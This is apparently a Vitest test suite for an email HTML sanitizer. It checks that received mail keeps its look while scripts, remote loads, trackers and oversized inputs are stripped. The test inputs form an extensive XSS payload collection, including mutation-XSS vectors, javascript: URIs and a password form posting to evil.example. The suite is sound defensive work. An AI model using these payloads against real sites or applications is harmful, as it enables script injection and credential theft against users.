import { describe, expect, test } from 'vitest'
import { cleanReceived } from './received-html.rules.ts'

const clean = (html: string) => cleanReceived(html).Html

/** Nothing may remain that runs, loads, sends, or links into Dormer. */
const expectHarmless = (html: string | null) => {
  const tags = [...(html ?? '').matchAll(/<[^>]*>/g)].map(([tag]) => tag.replaceAll(/ (?:title|alt)="[^"]*"/g, ''))
  for (const tag of tags) {
    expect(tag).toMatch(
      /^<\/?(?:a|b|blockquote|br|center|code|details|div|em|figure|font|h1|h2|hr|i|img|li|mark|p|pre|s|small|span|strong|summary|table|tbody|td|tr|u|ul)[ >]/,
    )
    expect(tag).not.toMatch(
      /\son\w+\s*=|\ssrc="(?!data:image\/(?:png|jpe?g|gif|webp);base64,)|srcset|srcdoc|\sbackground=/i,
    )
    expect(tag).not.toMatch(/\shref="(?!https?:\/\/|mailto:|tel:)/i)
    expect(tag).not.toMatch(
      /url\s*\(|expression|@import|behavior|-moz-binding|position\s*:|z-index|\\|image-set|var\(|attr\(/i,
    )
  }
}

describe('nothing runs, loads or leads into Dormer', () => {
  test.for<[html: string, clean: string]>([
    ['<script>alert(1)</script>Hi', 'Hi'],
    ['<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>Hi', 'Hi'],
    ['<scr<script>ipt>alert(1)</scr</script>ipt>', 'ipt&gt;alert(1)ipt&gt;'],
    ['<<SCRIPT>alert("x");//\\<</SCRIPT>', '&lt;'],
    ['<script/xss src="https://evil.example/x.js"></script>a', 'a'],
    ['<img src=x onerror=alert(1)>', '<img />'],
    ['<img src="x` `<script>alert(1)</script>"` `>', '<img />'],
    ['<IMG """><SCRIPT>alert("x")</SCRIPT>"\\>', '<img />"\\&gt;'],
    ['<img src=javascript:alert(1)>', '<img />'],
    ['<img src="jav\tascript:alert(1);">', '<img />'],
    ['<img src="jav&#x0A;ascript:alert(1);">', '<img />'],
    ['<img src=" &#14;  javascript:alert(1);">', '<img />'],
    ['<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>', '<img />'],
    ['<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">', '<img />'],
    ['<img/src/onerror=alert(1)>', '<img />'],
    ['<img src=x:x onerror\n=alert(1)>', '<img />'],
    ['<body onload=alert(1)>Hi</body>', 'Hi'],
    ['<body background="javascript:alert(1)">Hi', 'Hi'],
    ['<div onmouseover="alert(1)">Hi</div>', '<div>Hi</div>'],
    ['<div onclick=alert(1) / onfocus=alert(1) autofocus tabindex=1>Hi</div>', '<div>Hi</div>'],
    ['<a href="javascript:alert(1)">Hi</a>', '<a>Hi</a>'],
    ['<a href="JaVaScRiPt:alert(1)">Hi</a>', '<a>Hi</a>'],
    ['<a href="java\nscript:alert(1)">Hi</a>', '<a>Hi</a>'],
    ['<a href="&#1;javascript:alert(1)">Hi</a>', '<a>Hi</a>'],
    ['<a href="vbscript:msgbox(1)">Hi</a>', '<a>Hi</a>'],
    ['<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Hi</a>', '<a>Hi</a>'],
    ['<a href="file:///etc/passwd">Hi</a>', '<a>Hi</a>'],
    ['<a href="/api/users">Hi</a>', '<a>Hi</a>'],
    ['<a href="//evil.example">Hi</a>', '<a>Hi</a>'],
    ['<a href="#top">Hi</a>', '<a>Hi</a>'],
    ['<a href="blob:https://dormer.example/1">Hi</a>', '<a>Hi</a>'],
    ['<iframe src="https://evil.example"></iframe>Hi', 'Hi'],
    ['<iframe srcdoc="<script>alert(1)</script>"></iframe>Hi', 'Hi'],
    ['<frameset><frame src="javascript:alert(1)"></frameset>Hi', 'Hi'],
    ['<object data="data:text/html,<script>alert(1)</script>"></object>Hi', 'Hi'],
    ['<embed src="https://evil.example/a.swf" allowscriptaccess=always>Hi', 'Hi'],
    ['<applet code="A.class"></applet>Hi', 'Hi'],
    ['<form action="https://evil.example"><input name=password><button>Sign in</button></form>', 'Sign in'],
    ['<input type=image src=https://evil.example/x.png onerror=alert(1)>Hi', 'Hi'],
    ['<select><option>a</option></select><textarea>b</textarea>Hi', 'Hi'],
    ['<isindex action="javascript:alert(1)" type=image>Hi', 'Hi'],
    ['<button formaction="javascript:alert(1)">Hi</button>', 'Hi'],
    ['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">Hi', 'Hi'],
    ['<meta http-equiv="Set-Cookie" content="a=b">Hi', 'Hi'],
    ['<base href="https://evil.example/"><a href="x">Hi</a>', '<a>Hi</a>'],
    ['<link rel=stylesheet href="https://evil.example/x.css">Hi', 'Hi'],
    ['<link rel="prefetch dns-prefetch" href="https://evil.example">Hi', 'Hi'],
    ['<style>@import "https://evil.example/x.css";</style>Hi', 'Hi'],
    ['<style>body{background:url(https://evil.example/t)}</style>Hi', 'Hi'],
    ['<title>Not the text</title>Hi', 'Hi'],
    ['<video poster=https://evil.example/x><source onerror=alert(1)></video>Hi', 'Hi'],
    ['<audio src=https://evil.example/x autoplay onerror=alert(1)></audio>Hi', 'Hi'],
    ['<details open ontoggle=alert(1)><summary>Hi</summary></details>', '<details><summary>Hi</summary></details>'],
    ['<marquee onstart=alert(1)>Hi</marquee>', 'Hi'],
    ['<portal src="https://evil.example">Hi', 'Hi'],
    ['<xml id=x><x onbegin=alert(1)></x></xml>Hi', 'Hi'],
    ['<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]>Hi', ']&gt;Hi'],
    ['<![CDATA[<script>alert(1)</script>]]>Hi', 'Hi'],
    ['<!--[if gte mso 9]><script>alert(1)</script><![endif]-->Hi', 'Hi'],
    ['<!--><img src=x onerror=alert(1)>-->', '<img />--&gt;'],
    ['<![if !mso]>Hi<![endif]>', 'Hi'],
    ['<table background="https://evil.example/t"><tr><td>Hi</td></tr></table>', '<table><tr><td>Hi</td></tr></table>'],
    ['<p id=cookie name=body class=x>Hi</p>', '<p>Hi</p>'],
    ['<p data-remote-src="x" data-quoted="1" contenteditable>Hi</p>', '<p>Hi</p>'],
    [
      '<a href="https://ok.example" ping="https://evil.example" download>Hi</a>',
      '<a href="https://ok.example" rel="noopener noreferrer nofollow" target="_blank">Hi</a>',
    ],
  ])('%s', ([html, expected]) => {
    const shown = clean(html)
    expectHarmless(shown)
    expect(shown).toBe(expected)
  })
})

describe('what browsers read differently than parsers', () => {
  test.for([
    '<svg><script>alert(1)</script></svg>',
    '<svg onload=alert(1)>',
    '<svg/onload=alert(1)//',
    '<svg><a xlink:href="javascript:alert(1)"><text>Hi</text></a></svg>',
    '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
    '<svg><set attributeName=onmouseover to=alert(1)></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    '<math href="javascript:alert(1)">Hi</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">Hi</maction></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
    '<template><img src=x onerror=alert(1)></template>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<title><a href="</title><img src=x onerror=alert(1)>">',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">Hi</p>',
    '<p title="`><img src=x onerror=alert(1)>`">Hi</p>',
    '<select><style></select><img src=x onerror=alert(1)></style></select>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '<a href=http://a.example/"onmouseover="alert(1)>Hi</a>',
    '<img alt="<x" title="/><img src=x onerror=alert(1)>">',
    '<font color="red"onmouseover=alert(1)>Hi</font>',
    '<p/onclick=alert(1)>Hi',
    '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
    '<a href="\u0001\u0002javascript:alert(1)">Hi</a>',
    '<image src=x onerror=alert(1)>',
  ])('%s', (html) => {
    const shown = clean(html)
    expectHarmless(shown)
    // A second pass changes nothing more.
    expectHarmless(clean(shown ?? ''))
    expect(shown).not.toMatch(/<(?:svg|math|style|template|noscript|script)/i)
  })
})

describe('only styles for color, type and size are kept', () => {
  test.for<[style: string, kept: string]>([
    ['color:red;font-size:14px', 'color:red;font-size:14px'],
    ['color:rgb(1, 2, 3);background:#fff', 'color:rgb(1, 2, 3);background:#fff'],
    ["font-family:'Segoe UI', Arial,sans-serif", "font-family:'Segoe UI', Arial,sans-serif"],
    [
      'margin:0 auto;padding:3.0pt 0in;border-top:solid #E1E1E1 1.0pt',
      'margin:0 auto;padding:3.0pt 0in;border-top:solid #E1E1E1 1.0pt',
    ],
    ['color:red !important', 'color:red !important'],
    ['background:url(https://evil.example/t)', ''],
    ['background-image:url("https://evil.example/t")', ''],
    ['background:u\\72l(https://evil.example/t)', ''],
    ['background:URL (x)', ''],
    ['background:image-set("https://evil.example/t" 1x)', ''],
    ['background:-webkit-image-set("x" 1x)', ''],
    ['list-style:url(https://evil.example/t)', ''],
    ['cursor:url(https://evil.example/t)', ''],
    ['content:"x"', ''],
    ['width:expression(alert(1))', ''],
    ['xss:expr/*x*/ession(alert(1))', ''],
    ['behavior:url(x.htc)', ''],
    ['-moz-binding:url(x.xml#x)', ''],
    ['position:fixed;top:0;left:0;z-index:9999', ''],
    ['position/**/:absolute', ''],
    ['transform:scale(99)', ''],
    ['animation:x 1s', ''],
    ['filter:blur(9px)', ''],
    ['height:100vh', ''],
    ['width:100dvw', ''],
    ['color:var(--x)', ''],
    ['width:attr(x)', ''],
    ['--x:url(y)', ''],
    ['color:red}body{background:url(x)', 'color:red'],
    ['color:red;}*{display:none', 'color:red'],
    ['@import "x"', ''],
    ['color:red;<script>', 'color:red'],
    ['color:"</style><img src=x>"', ''],
    [`color:red;${'a'.repeat(5000)}:b`, ''],
  ])('%s', ([style, kept]) => {
    const shown = clean(`<p style="${style.replaceAll('"', '&quot;')}">Hi</p>`)
    expectHarmless(shown)
    expect(shown).toBe(kept ? `<p style="${kept}">Hi</p>` : '<p>Hi</p>')
  })
})

describe('what is kept of an email’s look can be read', () => {
  const style = '<style>.card{color:#fff;background:#123456}</style>'
  test.for<[name: string, html: string, shown: string]>([
    [
      'a gradient keeps the mean of its colors',
      '<p style="background:linear-gradient(90deg, #000000 0%, #204060 100%);color:#fff">Hi</p>',
      '<p style="background-color:#102030;color:#fff">Hi</p>',
    ],
    [
      'so does one of images',
      '<p style="background-image:radial-gradient(circle at top, rgb(0 0 0), rgba(32, 64, 96, 1));color:white">Hi</p>',
      '<p style="background-color:#102030;color:white">Hi</p>',
    ],
    [
      'and an old one',
      '<p style="background:-webkit-gradient(linear, left top, left bottom, from(#000), to(#204060));color:#fff">Hi</p>',
      '<p style="background-color:#102030;color:#fff">Hi</p>',
    ],
    [
      'a veil over a picture',
      '<p style="background:linear-gradient(rgba(0,0,0,.6), rgba(0,0,0,.6)), url(https://cdn.example/a.jpg);color:#fff">Hi</p>',
      '<p style="background-color:#00000099;color:#fff">Hi</p>',
    ],
    [
      'a picture keeps its color',
      '<p style="background:#123 url(https://cdn.example/red.jpg) no-repeat;color:#fff">Hi</p>',
      '<p style="background-color:#112233;color:#fff">Hi</p>',
    ],
    [
      'without one, its letters are dark',
      '<p style="background:url(https://cdn.example/red.jpg) no-repeat;color:#fff">Hi</p>',
      '<p style="color:#1a1b1e">Hi</p>',
    ],
    [
      'a background attribute',
      '<table background="https://cdn.example/a.jpg"><tr><td style="color:#fff">Hi</td></tr></table>',
      '<table><tr><td style="color:#1a1b1e">Hi</td></tr></table>',
    ],
    [
      'a variable without a value takes its fallback',
      '<p style="background-color:var(--brand,#123);color:var(--ink, var(--other, #fff))">Hi</p>',
      '<p style="background-color:#123;color:#fff">Hi</p>',
    ],
    [
      'a variable with one',
      '<style>:root{--brand: #123}</style><html><body><p style="background:var(--brand, #eee);color:#fff">Hi</p></body></html>',
      '<p style="background:#123;color:#fff">Hi</p>',
    ],
    [
      'a variable without either is not known',
      '<p style="background-color:var(--brand);color:#fff">Hi</p>',
      '<p style="color:#1a1b1e">Hi</p>',
    ],
    [
      'colors in newer notations',
      '<p style="background:oklch(0 0 0);color:hwb(0 100% 0%)">Hi</p>',
      '<p style="background-color:#000000;color:#ffffff">Hi</p>',
    ],
    [
      'letters whose color is not known are not dark on dark',
      '<p style="background:#111;color:color-mix(in srgb, white, pink)">Hi</p>',
      '<p style="background:#111;color:#ffffff">Hi</p>',
    ],
    [
      'a color from a style sheet, on a background from an attribute',
      '<style>h1{color:#fff}</style><table bgcolor="#123456"><tr><td><h1>Hi</h1></td></tr></table>',
      '<table bgcolor="#123456" style="color:#ffffff"><tr><td><h1 style="color:#fff">Hi</h1></td></tr></table>',
    ],
    [
      'a background from a style sheet, below a color from an attribute',
      '<style>.dark{background-color:#123456}</style><div class="dark big"><font color="white">Hi</font></div>',
      '<div style="background-color:#123456;color:#ffffff"><font color="white">Hi</font></div>',
    ],
    [
      'dark on dark without a style sheet',
      '<table bgcolor="#222"><tr><td>Hi</td></tr></table>',
      '<table bgcolor="#222" style="color:#ffffff"><tr><td>Hi</td></tr></table>',
    ],
    [
      'the page’s own colors',
      '<html><body bgcolor="#222222" text="#eeeeee" onload="x()"><p>Hi</p></body></html>',
      '<div style="color:#eeeeee" bgcolor="#222222"><p>Hi</p></div>',
    ],
    [
      'also from a style sheet',
      '<style>body{margin:0;background:#222;color:#eee}</style><body>Hi</body>',
      '<div style="background:#222;color:#eee">Hi</div>',
    ],
    [
      'an id, in another element',
      '<style>#a > .b{color:red}</style><div id="a"><p class="b">Hi</p></div>',
      '<div><p style="color:red">Hi</p></div>',
    ],
    [
      'not an element in between',
      '<style>#a > .b{color:red}</style><div id="a"><b><i class="b">Hi</i></b></div>',
      '<div><b><i>Hi</i></b></div>',
    ],
    [
      'anywhere within',
      '<style>.a .b{color:red}</style><div class="a"><b><i class="b">Hi</i></b></div>',
      '<div><b><i style="color:red">Hi</i></b></div>',
    ],
    [
      'what weighs more wins',
      '<style>p.a{color:red}p{color:blue}.a{color:green}</style><p class="a">Hi</p>',
      '<p style="color:red">Hi</p>',
    ],
    [
      'the element’s own wins',
      '<style>p{color:red}</style><p style="color:blue">Hi</p>',
      '<p style="color:blue">Hi</p>',
    ],
    [
      'unless it is important',
      '<style>p{color:red!important}</style><p style="color:blue">Hi</p>',
      '<p style="color:red">Hi</p>',
    ],
    [
      'a style sheet that comes later',
      `<p class="card">Hi</p>${style}`,
      '<p style="color:#fff;background:#123456">Hi</p>',
    ],
    ['several selectors', '<style>h1, p:link, .x p, p{color:red}</style><p>Hi</p>', '<p style="color:red">Hi</p>'],
    [
      'hidden stays hidden',
      '<style>.pre{display:none;color:#fff}</style><div class="pre">Hi</div>',
      '<div style="display:none;color:#fff">Hi</div>',
    ],
    // What does not hold in the frame.
    ['for phones', '<style>@media (max-width:600px){p{color:red}}</style><p>Hi</p>', '<p>Hi</p>'],
    ['for screens', '<style>@media only screen{p{color:red}}</style><p>Hi</p>', '<p style="color:red">Hi</p>'],
    ['for the dark', '<style media="(prefers-color-scheme: dark)">p{color:red}</style><p>Hi</p>', '<p>Hi</p>'],
    ['below the pointer', '<style>p:hover{color:red}</style><p>Hi</p>', '<p>Hi</p>'],
    ['for old Outlook', '<!--[if mso]><style>p{color:red}</style><![endif]--><p>Hi</p>', '<p>Hi</p>'],
    [
      'for all but Outlook',
      '<!--[if !mso]><!--><style>p{color:red}</style><!--<![endif]--><p>Hi</p>',
      '<p style="color:red">Hi</p>',
    ],
    // What could load or lie over something.
    [
      'addresses in a style sheet',
      '<style>p{background:url(https://evil.example/t);position:fixed;color:red}</style><p>Hi</p>',
      '<p style="color:red">Hi</p>',
    ],
    [
      'an address in a variable',
      '<style>:root{--x:url(https://evil.example/t)}</style><html><p style="background:var(--x)">Hi</p></html>',
      '<p>Hi</p>',
    ],
    ['a variable within itself', '<style>p{--x:var(--x);color:var(--x)}</style><p>Hi</p>', '<p>Hi</p>'],
  ])('%s', ([, html, expected]) => {
    const shown = clean(html)
    expectHarmless(shown)
    expect(shown).toBe(expected)
  })

  test.for<[name: string, sheet: string, body: string]>([
    ['a megabyte of rules', '.a{color:#fff}'.repeat(100_000), '<p class="a" style="color:#fff">Hi</p>'],
    ['rules for everything', '.a .a .a .a .a *{color:#fff}'.repeat(9000), '<p class="a">Hi</p>'.repeat(20_000)],
    ['rules within rules', '@media screen{'.repeat(20_000), '<p class="a">Hi</p>'],
    ['one rule of many', `p{${'color:#fff;'.repeat(20_000)}}`, '<p class="a">Hi</p>'.repeat(20_000)],
    [
      'variables',
      `p{${Array.from({ length: 400 }, (_, n) => `--a${n}:b`).join(';')}}`,
      '<p class="a">Hi</p>'.repeat(20_000),
    ],
    ['gradients', `p{background:${'gradient('.repeat(400)}}`, '<p class="a">Hi</p>'.repeat(20_000)],
    ['a deep selector', '.a .a .a .a .a .a .a .a .b{color:#fff}', '<div class="a">'.repeat(190)],
  ])('%s end, and can be read', ([, sheet, body]) => {
    const { Html } = cleanReceived(`<style>${sheet}</style>${body}`)
    expectHarmless(Html)
    expect(Html).toContain(body.includes('Hi') ? 'Hi' : 'div')
    expect(Html).not.toContain('#fff"')
  })
})

describe('images wait until they are asked for', () => {
  const PNG = 'data:image/png;base64,iVBORw0KGgo='
  test.for<[html: string, clean: string]>([
    [
      '<img src="https://cdn.example/a.png" alt="A" width="600">',
      '<img width="600" alt="A" data-remote-src="https://cdn.example/a.png" />',
    ],
    ['<img src="http://cdn.example/a.png">', '<img data-remote-src="https://cdn.example/a.png" />'],
    ['<img src="//cdn.example/a.png">', '<img data-remote-src="https://cdn.example/a.png" />'],
    [
      '<img src=" HTTPS://cdn.example/a.png?a=1&amp;b=2">',
      '<img data-remote-src="https://cdn.example/a.png?a=1&amp;b=2" />',
    ],
    [
      '<img src="https://cdn.example/a.png" srcset="https://cdn.example/b.png 2x">',
      '<img data-remote-src="https://cdn.example/a.png" />',
    ],
    [
      '<picture><source srcset="https://cdn.example/b.png"><img src="https://cdn.example/a.png"></picture>',
      '<img data-remote-src="https://cdn.example/a.png" />',
    ],
    ['<img src="https://user:pass@cdn.example/a.png">', '<img />'],
    ['<img src="https://">', '<img />'],
    ['<img src="/api/contacts">', '<img />'],
    ['<img src="ftp://cdn.example/a.png">', '<img />'],
    ['<img src="cid:logo@example.com">', '<img data-cid="logo@example.com" />'],
    ['<img src="cid:logo%40example.com">', '<img data-cid="logo@example.com" />'],
    ['<img src="cid:100%">', '<img data-cid="100%" />'],
    ['<img src="CID:<logo 1>">', '<img data-cid="logo1" />'],
    [`<img src="${PNG}">`, `<img src="${PNG}" />`],
    ['<img src="data:image/svg+xml;base64,PHN2Zz4=">', '<img />'],
    ['<img src="data:text/html,<script>alert(1)</script>">', '<img />'],
    ['<img src="data:image/png,x">', '<img />'],
    ['<img src="https://t.example/o.gif" width="1" height="1">', '<img data-tracker="t.example" />'],
    ['<img src="https://t.example/o.gif" width=0 height=0>', '<img data-tracker="t.example" />'],
    ['<img src="https://t.example/o.gif" style="width:1px;height:1px">', '<img data-tracker="t.example" />'],
    ['<img src="https://t.example/o.gif" style="display : none !important">', '<img data-tracker="t.example" />'],
    ['<img src="https://t.example/o.gif" style="visibility:hidden">', '<img data-tracker="t.example" />'],
    ['<img src="https://t.example/o.gif" height="1">', '<img data-tracker="t.example" />'],
    // A line is not a tracker.
    [
      '<img src="https://cdn.example/line.png" width="600" height="1">',
      '<img width="600" height="1" data-remote-src="https://cdn.example/line.png" />',
    ],
    [
      '<img src="https://cdn.example/a.png" data-remote-src="x" data-cid="y">',
      '<img data-remote-src="https://cdn.example/a.png" />',
    ],
  ])('%s', ([html, expected]) => {
    expectHarmless(clean(html))
    expect(clean(html)).toBe(expected)
  })
})

test('an email’s look is kept', () => {
  const html =
    '<table width="600" border="0" cellpadding="4" align="center" bgcolor="#ffffff"><tbody><tr><td colspan="2" valign="top" style="font-family:Arial;text-align:center"><font face="Arial" size="2" color="red"><b>Hi</b></font><br /></td></tr></tbody></table><ul><li>One</li></ul>'
  expect(clean(html)).toBe(html)
})

describe('quotes are marked, and nothing of them is lost', () => {
  test.for<[html: string, clean: string]>([
    [
      '<div>Yes</div><div class="gmail_quote"><div class="gmail_attr">On Tue, Ana wrote:</div><blockquote class="gmail_quote">Hi</blockquote></div>',
      '<div>Yes</div><div data-quoted="1"><div>On Tue, Ana wrote:</div><blockquote data-quoted="1">Hi</blockquote></div>',
    ],
    ['Yes<blockquote type="cite">Hi</blockquote>', 'Yes<blockquote data-quoted="1">Hi</blockquote>'],
    ['Oui<blockquote class="x_gmail_quote">Hi</blockquote>', 'Oui<blockquote data-quoted="1">Hi</blockquote>'],
    ['Ja<div name="quote">Hi</div>', 'Ja<div data-quoted="1">Hi</div>'],
    ['Yes<div name="messageReplySection">Hi</div>', 'Yes<div data-quoted="1">Hi</div>'],
    ['Yes<div id="ms-outlook-mobile-reference-message">Hi</div>', 'Yes<div data-quoted-from="1">Hi</div>'],
    ['Yes<div class="tutanota_quote front-blockquote">Hi</div>', 'Yes<div data-quoted="1">Hi</div>'],
    ['Yes<blockquote class="missive_quote">Hi</blockquote>', 'Yes<blockquote data-quoted="1">Hi</blockquote>'],
    ['Yes<blockquote>No mail</blockquote>', 'Yes<blockquote>No mail</blockquote>'],
    ['Yes<div class="moz-cite-prefix">On Tue, Ana wrote:</div>', 'Yes<div data-quoted="1">On Tue, Ana wrote:</div>'],
    ['Yes<div class="yahoo_quoted">Hi</div>', 'Yes<div data-quoted="1">Hi</div>'],
    [
      'Yes<hr><div id="divRplyFwdMsg" dir="ltr">From: Ana</div><div>Hi</div>',
      'Yes<hr /><div dir="ltr" data-quoted-from="1">From: Ana</div><div>Hi</div>',
    ],
    ['Yes<div id="x_appendonsend"></div>', 'Yes<div data-quoted-from="1"></div>'],
    [
      '<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in"><p><b>From:</b> Ana</p></div>',
      '<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0in 0in 0in" data-quoted-from="1"><p><b>From:</b> Ana</p></div>',
    ],
    // What was forwarded is what the email is for.
    [
      'FYI<div class="gmail_quote"><div dir="ltr" class="gmail_attr">---------- Forwarded message ---------<br>From: Ana</div>Hi</div>',
      'FYI<div><div dir="ltr">---------- Forwarded message ---------<br />From: Ana</div>Hi</div>',
    ],
  ])('%s', ([html, expected]) => expect(clean(html)).toBe(expected))
})

describe('what is too much', () => {
  const MB20 = 20_000_000
  test.for([
    '<table><tr><td>',
    '<b>',
    '<',
    '<a href="',
    '</x>',
    '&',
    '<!--',
    '<div class="gmail_quote">',
    '<svg><style>',
    '<p style="(((',
  ])('20 MB of %s', (unit) => expectHarmless(cleanReceived(unit.repeat(MB20 / unit.length)).Html))

  test('is cut, and said to be', () => {
    const { Html, IsCut } = cleanReceived(`<p>${'word '.repeat(1_000_000)}</p>`)
    expect(IsCut).toBe(true)
    expect(Html?.length).toBeLessThan(2_000_100)
    expect(Html?.endsWith('</p>')).toBe(true)
    expect(cleanReceived('<p>short</p>')).toEqual({ Html: '<p>short</p>', IsCut: false })
  })

  test('elements nested deeper than anybody sees lose their frame, not their text', () => {
    const deep = cleanReceived(`${'<div>'.repeat(600)}Hi${'</div>'.repeat(600)}`).Html
    expect(deep?.match(/<div>/g)).toHaveLength(200)
    expect(deep).toContain('Hi')
    expect(cleanReceived(`${'<div>'.repeat(5000)}Hi`)).toEqual({ Html: null, IsCut: false })
  })

  test('NUL and half characters are left out', () => expect(clean('a\0b\ud800c')).toBe('ab\ufffdc'))
})
